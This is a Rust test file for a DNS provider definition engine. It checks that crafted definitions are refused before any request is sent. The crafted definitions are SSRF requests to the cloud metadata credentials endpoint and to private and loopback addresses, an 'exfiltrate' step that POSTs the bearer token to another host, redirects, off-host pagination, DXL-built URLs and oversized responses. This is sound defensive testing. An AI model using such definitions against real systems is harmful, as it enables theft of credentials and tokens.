//! Issue 9, items 2 and 3 (HTTP side), as an attacker would try them with a
//! crafted definition: requests to cloud metadata, loopback, private
//! addresses and plain http, answers carried with the token to another
//! host, pagination off-host, names resolving to loopback, a DXL formula
//! building its own URL, huge and deeply nested answers, and repeat, interval
//! and page counts past the caps. Each is refused before anything is sent
//! (the stub records every request it receives); the same definitions run
//! when the account opts in.
#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

mod common;
use common::*;

use certmgr_dns::dxl::DxlDefinition;
use certmgr_dns::{Definition, DnsError, NetworkAccess, ProviderDefinition, Refusal};

const HEAD: &str = r#"
[provider]
id = "evil"
name = "Evil"
website = "https://evil.example"
api_docs = "https://evil.example/docs"
min_ttl = 60
multi_value_txt = true

[[parameter]]
name = "api_url"
help = "base"
required = true

[[parameter]]
name = "token"
help = "token"
secret = true
default = ""
"#;

fn def(extra_provider: &str, steps: &str) -> Definition {
    let head = HEAD.replacen(
        "multi_value_txt = true\n",
        &format!("multi_value_txt = true\n{extra_provider}\n"),
        1,
    );
    Definition::parse(&format!("{head}\n{steps}"), "evil.toml").unwrap()
}

fn call(def: &Definition, api_url: &str, access: NetworkAccess) -> CallContext {
    let params = def
        .bind([
            ("api_url", api_url.to_string()),
            ("token", SECRET.to_string()),
        ])
        .unwrap();
    CallContext::new(ZONE, NAME, VALUE, params)
        .unwrap()
        .with_network(access)
}

async fn add(def: &Definition, ctx: &CallContext) -> Result<Captures, DnsError> {
    fast_engine()
        .add_record(def, ctx, &MemoryTrace::default())
        .await
}

/// The refusal's host, kind and message; panics on any other outcome.
fn refusal(r: Result<Captures, DnsError>) -> (String, Refusal, String) {
    match r {
        Err(e @ DnsError::Destination { .. }) => {
            let msg = e.to_string();
            let DnsError::Destination { host, refusal, .. } = e else {
                unreachable!()
            };
            assert!(!msg.contains(SECRET), "{msg}");
            assert!(!msg.contains("--allow"), "library names no CLI flag: {msg}");
            (host, refusal, msg)
        }
        other => panic!("expected a destination refusal, got {other:?}"),
    }
}

const GET_URL: &str = r#"
[[step]]
phase = "add"
name = "fetch"
method = "GET"
url = "{{ params.api_url }}/latest/meta-data"
headers = { Authorization = "Bearer {{ params.token }}" }
"#;

#[tokio::test]
async fn metadata_loopback_private_and_plain_http_are_refused_before_connecting() {
    // Literal hosts in the definition: declared (and listed), still refused.
    let d = def(
        "",
        r#"
[[step]]
phase = "add"
name = "metadata"
method = "GET"
url = "https://169.254.169.254/latest/meta-data/iam/security-credentials/"
"#,
    );
    assert_eq!(d.provider.hosts, vec!["169.254.169.254"]);
    let (host, kind, msg) = refusal(
        add(
            &d,
            &call(&d, "https://api.example", NetworkAccess::PUBLIC_HTTPS),
        )
        .await,
    );
    assert_eq!(
        (host.as_str(), kind),
        ("169.254.169.254", Refusal::PrivateNetwork)
    );
    assert!(
        msg.contains("link-local") && msg.contains("allow the private network"),
        "{msg}"
    );

    let d = def(
        "",
        r#"
[[step]]
phase = "add"
name = "lan"
method = "GET"
url = "https://10.0.0.7/api"
"#,
    );
    let (host, kind, msg) = refusal(
        add(
            &d,
            &call(&d, "https://api.example", NetworkAccess::PUBLIC_HTTPS),
        )
        .await,
    );
    assert_eq!((host.as_str(), kind), ("10.0.0.7", Refusal::PrivateNetwork));
    assert!(msg.contains("private"), "{msg}");

    // A loopback stub, named by the account: nothing reaches it.
    let stub = StubServer::start(vec![Exchange::new("GET", "/latest/meta-data")]).await;
    let d = def("", GET_URL);
    let base = stub.base_url(); // http://127.0.0.1:PORT
    let (host, kind, msg) = refusal(add(&d, &call(&d, &base, NetworkAccess::PUBLIC_HTTPS)).await);
    assert_eq!(kind, Refusal::PlainHttp);
    assert!(base.ends_with(&host), "{host}");
    assert!(
        msg.contains("plain http://") && msg.contains("allow plain HTTP"),
        "{msg}"
    );
    // plain http allowed, loopback not: refused on the address
    let only_http = NetworkAccess {
        private_network: false,
        plain_http: true,
    };
    let (_, kind, msg) = refusal(add(&d, &call(&d, &base, only_http)).await);
    assert_eq!(kind, Refusal::PrivateNetwork);
    assert!(
        msg.contains("loopback") && msg.contains("127.0.0.1"),
        "{msg}"
    );
    // over https too
    let https = base.replacen("http://", "https://", 1);
    let (_, kind, _) = refusal(add(&d, &call(&d, &https, NetworkAccess::PUBLIC_HTTPS)).await);
    assert_eq!(kind, Refusal::PrivateNetwork);
    assert!(stub.received().is_empty(), "{:?}", stub.received());

    // The account opts in: the same definition runs.
    add(&d, &call(&d, &base, NetworkAccess::LOCAL))
        .await
        .unwrap();
    stub.assert_done();
}

#[tokio::test]
async fn a_name_resolving_to_loopback_is_refused_without_the_opt_in() {
    let stub = StubServer::start(vec![Exchange::new("GET", "/latest/meta-data")]).await;
    let port = stub.base_url().rsplit(':').next().unwrap().to_string();
    let d = def("", GET_URL);
    let only_http = NetworkAccess {
        private_network: false,
        plain_http: true,
    };
    for name in ["localhost", "api.localhost"] {
        let url = format!("http://{name}:{port}");
        let r = add(&d, &call(&d, &url, only_http)).await;
        if let Err(DnsError::Transport { message, .. }) = &r
            && name != "localhost"
            && message.contains("failed to lookup")
        {
            // This resolver does not know *.localhost: nothing was sent either way.
            continue;
        }
        let (host, kind, msg) = refusal(r);
        assert_eq!((host.as_str(), kind), (name, Refusal::PrivateNetwork));
        assert!(msg.contains(&format!("{name:?} resolves to")), "{msg}");
        assert!(msg.contains("loopback"), "{msg}");
    }
    assert!(stub.received().is_empty(), "{:?}", stub.received());
    add(
        &d,
        &call(
            &d,
            &format!("http://localhost:{port}"),
            NetworkAccess::LOCAL,
        ),
    )
    .await
    .unwrap();
    stub.assert_done();
}

#[tokio::test]
async fn an_answer_is_not_carried_with_the_token_to_an_undeclared_host() {
    let second = StubServer::start(vec![]).await;
    // The first answer names the second server (another port of the same
    // address: another destination); the definition sends the token there.
    let elsewhere = def(
        "",
        r#"
[[step]]
phase = "lookup"
name = "zones"
method = "GET"
url = "{{ params.api_url }}/zones"
capture = { zone = "$.zone" }

[[step]]
phase = "add"
name = "exfiltrate"
method = "POST"
url = "{{ captures.zone }}/steal"
headers = { Authorization = "Bearer {{ params.token }}" }
"#,
    );
    let captured_url = StubServer::start(vec![
        Exchange::new("GET", "/zones").reply(200, Some(json!({"zone": second.base_url()}))),
    ])
    .await;
    let (host, kind, msg) = refusal(
        add(
            &elsewhere,
            &call(&elsewhere, &captured_url.base_url(), NetworkAccess::LOCAL),
        )
        .await,
    );
    assert_eq!(kind, Refusal::Undeclared);
    assert!(second.base_url().ends_with(&host), "{host}");
    assert!(
        msg.contains("does not declare it") && msg.contains("[provider] hosts"),
        "{msg}"
    );
    assert!(
        second.received().is_empty(),
        "the second server got a request"
    );
    captured_url.assert_done();
}

#[tokio::test]
async fn a_redirect_is_not_followed_with_the_token() {
    let other = StubServer::start(vec![]).await;
    let first = StubServer::start(vec![
        Exchange::new("GET", "/latest/meta-data")
            .reply(302, None)
            .reply_header("Location", &format!("{}/steal", other.base_url())),
    ])
    .await;
    let d = def("", GET_URL);
    let err = add(&d, &call(&d, &first.base_url(), NetworkAccess::LOCAL))
        .await
        .expect_err("a 302 is not a success");
    let msg = err.to_string();
    assert!(msg.contains("302"), "{msg}");
    assert!(!msg.contains(SECRET), "{msg}");
    assert!(other.received().is_empty(), "the redirect was followed");
    first.assert_done();
}

#[tokio::test]
async fn pagination_links_to_another_host_are_refused() {
    let other = StubServer::start(vec![]).await;
    let first = StubServer::start(vec![Exchange::new("GET", "/records").reply(
        200,
        Some(json!({"records": [], "next": format!("{}/records?page=2", other.base_url())})),
    )])
    .await;
    let d = def(
        &format!(
            "hosts = [{:?}]",
            other.base_url().trim_start_matches("http://")
        ),
        r#"
[[step]]
phase = "add"
name = "list"
method = "GET"
url = "{{ params.api_url }}/records"
capture = { id = "$.records[0].id" }
paginate = { next_url = "$.next" }
"#,
    );
    let (host, kind, msg) =
        refusal(add(&d, &call(&d, &first.base_url(), NetworkAccess::LOCAL)).await);
    assert_eq!(kind, Refusal::OtherHost);
    assert!(other.base_url().ends_with(&host), "{host}");
    assert!(msg.contains("pagination stays on the host"), "{msg}");
    assert!(other.received().is_empty());
    first.assert_done();
}

#[tokio::test]
async fn a_dxl_formula_building_an_undeclared_or_private_url_is_refused() {
    let dxl = |url_formula: &str| {
        format!(
            r#"<?xml version='1.0' encoding='utf-8'?>
<database xmlns='http://www.lotus.com/dxl' version='12.0'>
<document form='DnsProviderConfig'>
<item name='DnsProviderConfigName'><text>Crafted</text></item>
<item name='DnsProviderType'><text>H</text></item>
<item name='cfg_URL'><text>https://api.crafted.example</text></item>
<item name='ReqAddUrlFormula'><text>{url_formula}</text></item>
<item name='ReqAddHttpType'><text>P</text></item>
<item name='ReqAddHeaderFormula'><text>"Authorization: Bearer " + cfg_AuthToken</text></item>
</document>
</database>"#
        )
    };
    let run = |text: String| async move {
        let d = DxlDefinition::parse(&text, "crafted.dxl").unwrap();
        let hosts = d.provider.hosts.clone();
        let params = d.bind([("cfg_AuthToken", SECRET.to_string())]).unwrap();
        let ctx = CallContext::new(ZONE, NAME, VALUE, params).unwrap();
        let r = ProviderDefinition::Dxl(Box::new(d))
            .add(&fast_engine(), &ctx, &MemoryTrace::default())
            .await;
        (hosts, r.map(|p| p.captures))
    };
    // built from pieces: no literal names the host
    let (hosts, r) = run(dxl(r#""https://" + "10.1.2.3" + "/x""#)).await;
    assert!(hosts.is_empty(), "{hosts:?}");
    let (host, kind, msg) = refusal(r);
    assert_eq!((host.as_str(), kind), ("10.1.2.3", Refusal::Undeclared));
    assert!(
        msg.contains("api.crafted.example"),
        "the allowed hosts are listed: {msg}"
    );
    // a literal: declared and listed, but link-local
    let (hosts, r) = run(dxl(r#""https://169.254.169.254/latest/" + cfg_AuthToken"#)).await;
    assert_eq!(hosts, vec!["169.254.169.254"]);
    let (_, kind, msg) = refusal(r);
    assert_eq!(kind, Refusal::PrivateNetwork);
    assert!(!msg.contains(SECRET), "{msg}");
}

#[tokio::test]
async fn a_huge_answer_is_cut_off_with_a_clear_error() {
    let big = "x".repeat(5 * 1024 * 1024);
    let stub = StubServer::start(vec![Exchange::new("GET", "/latest/meta-data").reply_text(
        200,
        "text/plain",
        &big,
    )])
    .await;
    let d = def("", GET_URL);
    let e = add(&d, &call(&d, &stub.base_url(), NetworkAccess::LOCAL))
        .await
        .unwrap_err();
    let msg = e.to_string();
    assert!(msg.contains("body over 4 MiB"), "{msg}");
    assert!(msg.len() < 1000, "{msg}");
}

#[tokio::test]
async fn deeply_nested_xml_is_a_clear_error_and_the_process_lives() {
    let n = 100_000;
    let xml = format!("{}{}", "<a>".repeat(n), "</a>".repeat(n));
    let stub = StubServer::start(vec![Exchange::new("GET", "/records").reply_text(
        200,
        "application/xml",
        &xml,
    )])
    .await;
    let d = def(
        "",
        r#"
[[step]]
phase = "add"
name = "list"
method = "GET"
url = "{{ params.api_url }}/records"
capture = { id = "$.a.a" }
"#,
    );
    let e = add(&d, &call(&d, &stub.base_url(), NetworkAccess::LOCAL))
        .await
        .unwrap_err();
    assert!(e.to_string().contains("deeper than 100 levels"), "{e}");
    stub.assert_done();
}

fn invalid(extra_provider: &str, steps: &str) -> String {
    let head = HEAD.replacen(
        "multi_value_txt = true\n",
        &format!("multi_value_txt = true\n{extra_provider}\n"),
        1,
    );
    Definition::parse(&format!("{head}\n{steps}"), "evil.toml")
        .unwrap_err()
        .to_string()
}

#[test]
fn repeats_intervals_pages_and_delays_over_the_caps_are_refused_at_load() {
    let step = |extra: &str| {
        format!(
            r#"
[[step]]
phase = "add"
name = "poll"
method = "GET"
url = "{{{{ params.api_url }}}}/x"
{extra}
"#
        )
    };
    let m = invalid(
        "",
        &step("repeat_until = \"response.status == 200\"\nrepeat_max = 1000000"),
    );
    assert!(
        m.contains("evil.toml")
            && m.contains("step \"poll\" field \"repeat_max\"")
            && m.contains("limit of 60"),
        "{m}"
    );
    let m = invalid(
        "",
        &step("repeat_until = \"response.status == 200\"\nrepeat_interval_secs = 86400"),
    );
    assert!(
        m.contains("field \"repeat_interval_secs\"") && m.contains("limit of 60 s"),
        "{m}"
    );
    let m = invalid(
        "",
        &step(
            "capture = { id = \"$.id\" }\npaginate = { next_url = \"$.next\", max_pages = 100000 }",
        ),
    );
    assert!(
        m.contains("field \"paginate\"") && m.contains("limit of 100 pages"),
        "{m}"
    );
    let m = invalid("propagation_secs = 86400", &step(""));
    assert!(m.contains("propagation_secs") && m.contains("600 s"), "{m}");
    // at the caps: accepted
    def(
        "propagation_secs = 600",
        &step(
            "repeat_until = \"response.status == 200\"\nrepeat_max = 60\nrepeat_interval_secs = 60",
        ),
    );
}

#[test]
fn hosts_are_declared_by_literals_or_listed() {
    let m = invalid(
        "",
        r#"
[[step]]
phase = "add"
name = "regional"
method = "GET"
url = "https://{{ params.token }}.api.example.com/x"
"#,
    );
    assert!(
        m.contains("step \"regional\" field \"url\"") && m.contains("[provider] hosts"),
        "{m}"
    );
    let d = def(
        r#"hosts = ["eu.api.example.com", "US.api.example.com:8443"]"#,
        r#"
[[step]]
phase = "add"
name = "regional"
method = "GET"
url = "https://{{ params.token }}.api.example.com/x"

[[step]]
phase = "delete"
name = "literal"
method = "DELETE"
url = "https://api.example.net/v1/{{ zone }}"
"#,
    );
    assert_eq!(
        d.provider.hosts,
        vec![
            "api.example.net",
            "eu.api.example.com",
            "us.api.example.com:8443"
        ]
    );
    let m = invalid(r#"hosts = ["https://x.example/path"]"#, GET_URL);
    assert!(
        m.contains("provider field \"hosts\"") && m.contains("not a host name"),
        "{m}"
    );
    // The built-in providers name no host themselves: their hosts come from
    // the account's api_url (default shown by `dns provider show`).
    for p in certmgr_dns::catalog().unwrap() {
        let expected: Vec<String> = if p.provider.id == "google" {
            vec!["oauth2.googleapis.com".into()]
        } else {
            vec![]
        };
        assert_eq!(p.provider.hosts, expected, "{}", p.provider.id);
    }
}
